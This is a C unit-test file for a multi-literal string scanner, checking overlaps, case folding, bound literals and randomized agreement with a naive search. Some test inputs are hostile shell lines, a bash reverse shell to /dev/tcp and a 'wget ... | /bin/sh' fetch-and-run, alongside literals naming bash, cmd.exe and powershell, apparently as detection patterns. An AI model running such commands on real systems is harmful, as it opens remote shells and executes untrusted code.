/* The literal scanner: overlapping, duplicate, prefix and suffix literals, ASCII case folding,
 * literals of one to three bytes beside longer ones, NUL bytes, literals at both ends of the text,
 * literals bound to the start, the end or the whole text, stopping early, limits, and randomized
 * cross-checks against a naive search (small alphabets so anchors collide, thousands of
 * literals so the bitmaps are large, and scanners built as a set that share their bitmaps). */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "litscan.h"

#include "banned.h"

struct hit {
	uint32_t id;
	size_t start;
};

struct hits {
	struct hit *v;
	size_t n, cap;
	size_t stop_after; /* return 7 once this many hits are in; 0 = never */
};

static int on_hit(void *ctx, uint32_t id, size_t start)
{
	struct hits *h = ctx;

	if (h->n == h->cap) {
		h->cap = h->cap ? h->cap * 2 : 64;
		h->v = realloc(h->v, h->cap * sizeof(*h->v));
		assert_non_null(h->v);
	}
	h->v[h->n++] = (struct hit){.id = id, .start = start};
	return h->stop_after && h->n >= h->stop_after ? 7 : 0;
}

static int cmp_hit(const void *x, const void *y)
{
	const struct hit *a = x, *b = y;

	if (a->start != b->start)
		return a->start < b->start ? -1 : 1;
	return (a->id > b->id) - (a->id < b->id);
}

struct lit {
	const char *s;
	size_t len;
	uint32_t id;
	enum litscan_where where;
};

/* clang-format off */
#define L(str, id) {str, sizeof(str) - 1, id, LITSCAN_ANYWHERE}
#define LW(str, id, where) {str, sizeof(str) - 1, id, where}
/* clang-format on */
#define N(arr) (sizeof(arr) / sizeof((arr)[0]))

static struct litscan *build(const struct lit *l, size_t n)
{
	struct litscan_builder *b = litscan_builder_new();
	struct litscan *s;

	assert_non_null(b);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(
		    l[i].where == LITSCAN_ANYWHERE
			? litscan_builder_add(b, l[i].s, l[i].len, l[i].id)
			: litscan_builder_add_at(b, l[i].s, l[i].len, l[i].id, l[i].where),
		    0);
	s = litscan_build(b);
	assert_non_null(s);
	litscan_builder_free(b);
	return s;
}

static unsigned char fold(unsigned char c)
{
	return c >= 'A' && c <= 'Z' ? (unsigned char)(c + 32) : c;
}

/* Every (start, id) where literal id occurs in text, sorted. */
static struct hits naive(const struct lit *l, size_t n, const char *text, size_t len)
{
	struct hits h = {0};

	for (size_t at = 0; at < len; at++)
		for (size_t i = 0; i < n; i++) {
			size_t k = 0;

			if (l[i].len > len - at)
				continue;
			if ((l[i].where == LITSCAN_START && at != 0) ||
			    (l[i].where == LITSCAN_END && at + l[i].len != len) ||
			    (l[i].where == LITSCAN_WHOLE && (at != 0 || l[i].len != len)))
				continue;
			while (k < l[i].len &&
			       fold((unsigned char)text[at + k]) == fold((unsigned char)l[i].s[k]))
				k++;
			if (k == l[i].len)
				on_hit(&h, l[i].id, at);
		}
	if (h.n)
		qsort(h.v, h.n, sizeof(*h.v), cmp_hit);
	return h;
}

/* The scanner reports exactly what the naive search finds (in any order). */
static void expect_naive(const struct litscan *s, const struct lit *l, size_t n, const char *text,
			 size_t len)
{
	struct hits got = {0}, want = naive(l, n, text, len);

	assert_int_equal(litscan_scan(s, text, len, on_hit, &got), 0);
	if (got.n)
		qsort(got.v, got.n, sizeof(*got.v), cmp_hit);
	assert_int_equal(got.n, want.n);
	for (size_t i = 0; i < want.n; i++) {
		assert_int_equal(got.v[i].start, want.v[i].start);
		assert_int_equal(got.v[i].id, want.v[i].id);
	}
	free(got.v);
	free(want.v);
}

static void test_basics(void **state)
{
	static const struct lit l[] = {L("he", 0),    L("she", 1),	 L("his", 2),
				       L("hers", 3),  L("ushers", 4),	 L("rs", 5),
				       L("s", 6),     L("/bin/bash", 7), L("bash -i", 8),
				       L("-i >&", 9), L("ash", 10)};
	static const char *const texts[] = {"ushers",
					    "",
					    "s",
					    "he",
					    "his hers shes",
					    "/bin/bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
					    "x/BIN/BASH -I >&",
					    "bash",
					    "ushe",
					    "sushers"};
	struct litscan *s = build(l, N(l));

	(void)state;
	assert_int_equal(litscan_literal_count(s), N(l));
	assert_true(litscan_memory_bytes(s) > 0);
	for (size_t i = 0; i < N(texts); i++)
		expect_naive(s, l, N(l), texts[i], strlen(texts[i]));
	litscan_free(s);
}

static void test_duplicates(void **state)
{
	static const struct lit l[] = {L("abcd", 1), L("abcd", 2), L("x", 9), L("ABCD", 3),
				       L("abcd", 1)};
	struct litscan *s = build(l, N(l));
	struct hits got = {0};

	(void)state;
	assert_int_equal(litscan_scan(s, "xabcdabcd", 9, on_hit, &got), 0);
	/* x once, then the four entries of abcd at 1 and at 5 (id 1 twice: it was added twice) */
	assert_int_equal(got.n, 9);
	free(got.v);
	expect_naive(s, l, N(l), "xabcdabcd", 9);
	litscan_free(s);
}

static void test_case_and_bytes(void **state)
{
	static const struct lit l[] = {L("CmD.exe", 0),
				       L("powershell", 1),
				       L("[x", 2),
				       L("@", 3),
				       {"a\0b\0c", 5, 4, LITSCAN_ANYWHERE},
				       {"\0\0", 2, 5, LITSCAN_ANYWHERE},
				       L("\xc3\xa9t\xc3\xa9", 6)};
	static const char text[] = "C:\\Windows\\cmd.EXE -c PowerShell {X `@ a\0b\0c \0\0\0 "
				   "\xc3\xa9T\xc3\xa9 \xc3\x89t\xc3\xa9";
	struct litscan *s = build(l, N(l));
	struct hits got = {0};

	(void)state;
	expect_naive(s, l, N(l), text, sizeof(text) - 1);
	/* '[' and '{' differ only in the bit that folds letters: no match. */
	assert_int_equal(litscan_scan(s, "{x", 2, on_hit, &got), 0);
	assert_int_equal(got.n, 0);
	/* Only ASCII letters fold: 0xc9 is not 0xe9. */
	assert_int_equal(litscan_scan(s, "\xc3\x89t\xc3\xa9", 5, on_hit, &got), 0);
	assert_int_equal(got.n, 0);
	free(got.v);
	litscan_free(s);
}

static void test_ends_and_short(void **state)
{
	static const struct lit l[] = {L("/sh", 0), L("id", 1), L("w", 2), L("/bin/sh", 3),
				       L("wget ", 4)};
	static const char *const texts[] = {
	    "/sh", "id", "w",	"/bin/sh", "/usr/bin/id", "wget http://x/a.sh | /bin/sh",
	    "i",   "/s", "wget"};
	struct litscan *s = build(l, N(l));

	(void)state;
	for (size_t i = 0; i < N(texts); i++)
		expect_naive(s, l, N(l), texts[i], strlen(texts[i]));
	litscan_free(s);
}

static void test_bound(void **state)
{
	static const struct lit l[] = {LW("/ls", 0, LITSCAN_END),
				       LW("/usr/bin/", 1, LITSCAN_START),
				       LW("bash", 2, LITSCAN_WHOLE),
				       LW("sh", 3, LITSCAN_END),
				       LW("/", 4, LITSCAN_START),
				       LW("python3.11", 5, LITSCAN_END),
				       L("/bin/", 6),
				       LW("ls", 7, LITSCAN_WHOLE),
				       LW("/USR/BIN/LS", 8, LITSCAN_WHOLE)};
	static const char *const texts[] = {
	    "/usr/bin/ls",	   "/usr/bin/lsblk", "bash", "/bin/bash", "bashx", "ls",
	    "/usr/bin/python3.11", "x/usr/bin/",     "sh",   "h",	  "",	   "/",
	    "/Usr/Bin/Ls"};
	struct litscan *s = build(l, N(l));
	struct hits got = {0};

	(void)state;
	for (size_t i = 0; i < N(texts); i++)
		expect_naive(s, l, N(l), texts[i], strlen(texts[i]));
	/* A bound literal is reported once, at its place, even where it also occurs elsewhere. */
	assert_int_equal(litscan_scan(s, "/ls/ls", 6, on_hit, &got), 0);
	assert_int_equal(got.n, 2); /* "/" at 0, "/ls" at 3 */
	assert_int_equal(litscan_builder_add_at(NULL, "a", 1, 0, LITSCAN_END), -EINVAL);
	free(got.v);
	litscan_free(s);
}

static void test_stop(void **state)
{
	static const struct lit l[] = {L("ab", 0), L("abab", 1), L("b", 2)};
	struct litscan *s = build(l, N(l));
	struct hits got = {.stop_after = 3};

	(void)state;
	assert_int_equal(litscan_scan(s, "abababab", 8, on_hit, &got), 7);
	assert_int_equal(got.n, 3);
	/* The same inside a text long enough for the sixteen-byte search of short literals. */
	got.n = 0;
	assert_int_equal(litscan_scan(s, "xxxxxxxxxxxxxxxxxxxxbxxxxxxxxxxxbxxxxxxxxbxxxxxxbxx", 50,
				      on_hit, &got),
			 7);
	assert_int_equal(got.n, 3);
	free(got.v);
	litscan_free(s);
}

static void test_limits(void **state)
{
	struct litscan_builder *b = litscan_builder_new();
	char *big = malloc(LITSCAN_MAX_LITERAL + 1);
	struct litscan *s;
	struct hits got = {0};

	(void)state;
	assert_non_null(b);
	assert_non_null(big);
	memset(big, 'q', LITSCAN_MAX_LITERAL + 1);
	assert_int_equal(litscan_builder_add(NULL, "a", 1, 0), -EINVAL);
	assert_int_equal(litscan_builder_add(b, NULL, 1, 0), -EINVAL);
	assert_int_equal(litscan_builder_add(b, "a", 0, 0), -EINVAL);
	assert_int_equal(litscan_builder_add(b, big, LITSCAN_MAX_LITERAL + 1, 0), -E2BIG);
	assert_int_equal(litscan_builder_add(b, big, LITSCAN_MAX_LITERAL, 1), 0);
	/* An empty builder builds a scanner that finds nothing. */
	struct litscan_builder *empty = litscan_builder_new();
	struct litscan *none = litscan_build(empty);
	assert_non_null(none);
	assert_int_equal(litscan_scan(none, "anything", 8, on_hit, &got), 0);
	assert_int_equal(litscan_literal_count(none), 0);
	litscan_free(none);
	litscan_builder_free(empty);

	s = litscan_build(b);
	assert_non_null(s);
	assert_int_equal(litscan_scan(s, big, LITSCAN_MAX_LITERAL, on_hit, &got), 0);
	assert_int_equal(got.n, 1);
	assert_int_equal(litscan_scan(s, big, LITSCAN_MAX_LITERAL - 1, on_hit, &got), 0);
	assert_int_equal(got.n, 1);
	assert_int_equal(litscan_scan(s, NULL, 0, on_hit, &got), 0);
	assert_int_equal(litscan_scan(s, "", 0, on_hit, &got), 0);
	litscan_free(s);
	litscan_free(NULL);
	litscan_builder_free(NULL);
	litscan_builder_free(b);
	free(big);
	free(got.v);
}

static uint64_t rng_state = 0x243f6a8885a308d3ull;

static uint32_t rnd(uint32_t n)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return (uint32_t)(rng_state % n);
}

/* Random literals and texts over a few letters (both cases) and separators, so that anchors
 * share keys, literals overlap and nest, and every tier is used. */
static void random_round(size_t nlit, size_t maxlen, const char *alpha, size_t textlen, bool bound)
{
	struct lit *l = calloc(nlit, sizeof(*l));
	char *pool = malloc(nlit * maxlen), *text = malloc(textlen + 1);
	size_t na = strlen(alpha);

	assert_non_null(l);
	assert_non_null(pool);
	assert_non_null(text);
	for (size_t i = 0; i < nlit; i++) {
		char *p = pool + i * maxlen;
		size_t len = 1 + rnd((uint32_t)maxlen);

		for (size_t k = 0; k < len; k++)
			p[k] = alpha[rnd((uint32_t)na)];
		l[i] = (struct lit){p, len, (uint32_t)i, LITSCAN_ANYWHERE};
		if (bound)
			l[i].where = (enum litscan_where)rnd(4);
	}
	struct litscan *s = build(l, nlit);
	for (int t = 0; t < 20; t++) {
		size_t len = rnd((uint32_t)textlen + 1);

		for (size_t k = 0; k < len; k++)
			text[k] = alpha[rnd((uint32_t)na)];
		/* Plant a few literals so long ones occur too. */
		for (int k = 0; k < 3 && len; k++) {
			const struct lit *x = &l[rnd((uint32_t)nlit)];
			size_t at = rnd((uint32_t)len);

			if (x->len <= len - at)
				memcpy(text + at, x->s, x->len);
		}
		expect_naive(s, l, nlit, text, len);
	}
	litscan_free(s);
	free(l);
	free(pool);
	free(text);
}

/* Scanners built as a set (litscan_build_set) share their anywhere bitmaps: each must still
 * report exactly its own literals, with the others' keys in the table it reads, and each must
 * free alone, in any order. Overlapping literal sets over a small alphabet, so that most
 * windows of a text are some scanner's key. */
static void test_random_set(void **state)
{
	(void)state;
	enum { NSCAN = 5, NLIT = 300, MAXLEN = 9, TEXT = 400 };
	static const char alpha[] = "abcdAB/. ";
	for (int round = 0; round < 6; round++) {
		struct lit *l[NSCAN];
		size_t nl[NSCAN];
		char *pool = malloc((size_t)NSCAN * NLIT * MAXLEN), text[TEXT];
		struct litscan_builder *b[NSCAN];
		struct litscan *out[NSCAN];
		assert_non_null(pool);
		for (int i = 0; i < NSCAN; i++) {
			/* scanner 0 has no literal in the rounds where round % 3 == 2 */
			nl[i] = i == 0 && round % 3 == 2 ? 0 : 1 + rnd(NLIT);
			l[i] = calloc(nl[i] + 1, sizeof(**l));
			b[i] = litscan_builder_new();
			assert_non_null(l[i]);
			assert_non_null(b[i]);
			for (size_t k = 0; k < nl[i]; k++) {
				char *p = pool + ((size_t)i * NLIT + k) * MAXLEN;
				size_t len = 1 + rnd(MAXLEN);
				for (size_t j = 0; j < len; j++)
					p[j] = alpha[rnd(sizeof(alpha) - 1)];
				l[i][k] = (struct lit){p, len, (uint32_t)(i * 1000 + k),
						       (enum litscan_where)rnd(4)};
				assert_int_equal(
				    litscan_builder_add_at(b[i], p, len, l[i][k].id, l[i][k].where),
				    0);
			}
		}
		assert_int_equal(litscan_build_set(b, NSCAN, out), 0);
		for (int t = 0; t < 30; t++) {
			size_t len = rnd(TEXT + 1);
			for (size_t j = 0; j < len; j++)
				text[j] = alpha[rnd(sizeof(alpha) - 1)];
			for (int i = 0; i < NSCAN; i++)
				expect_naive(out[i], l[i], nl[i], text, len);
		}
		/* free from the middle, the last and the first */
		for (int i = 0; i < NSCAN; i++) {
			int k = (i + round + 2) % NSCAN;
			litscan_free(out[k]);
			litscan_builder_free(b[k]);
			free(l[k]);
		}
		free(pool);
	}
	assert_int_equal(litscan_build_set(NULL, 0, NULL), 0);
}

static void test_random_small_alphabet(void **state)
{
	(void)state;
	for (int r = 0; r < 40; r++)
		random_round(1 + rnd(12), 1 + rnd(10), "abAB ", 1 + rnd(200), r & 1);
}

static void test_random_wide(void **state)
{
	(void)state;
	for (int r = 0; r < 10; r++)
		random_round(50 + rnd(200), 3 + rnd(30), "abcdefgHIJ/.-_ 012", 600, r & 1);
}

static void test_random_few_short(void **state)
{
	(void)state;
	/* A few literals of one to three bytes are searched for sixteen positions at a time
	 * (litscan.c, FEW_KEYS): long texts, and pairs of bytes that differ only in bit 0x20
	 * (a and A, @ and `, . and 0x0e) so that a case-folded comparison of the wrong bytes
	 * would show. */
	for (int r = 0; r < 60; r++)
		random_round(1 + rnd(9), 1 + rnd(3), "aA@`.\x0e /", 1 + rnd(300), r & 1);
	for (int r = 0; r < 20; r++)
		random_round(1 + rnd(14), 1 + rnd(6), "aA@`.\x0e /", 1 + rnd(300), r & 1);
}

static void test_random_many(void **state)
{
	(void)state;
	/* Thousands of literals: the largest bitmaps and long anchor chains. */
	random_round(4000, 12, "abcdefghijklmnopqrstuvwxyz/.", 3000, false);
	random_round(4000, 12, "abcdefghijklmnopqrstuvwxyz/.", 60, true);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_basics),	   cmocka_unit_test(test_duplicates),
	    cmocka_unit_test(test_case_and_bytes), cmocka_unit_test(test_ends_and_short),
	    cmocka_unit_test(test_bound),	   cmocka_unit_test(test_stop),
	    cmocka_unit_test(test_limits),	   cmocka_unit_test(test_random_small_alphabet),
	    cmocka_unit_test(test_random_wide),	   cmocka_unit_test(test_random_few_short),
	    cmocka_unit_test(test_random_many),	   cmocka_unit_test(test_random_set),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
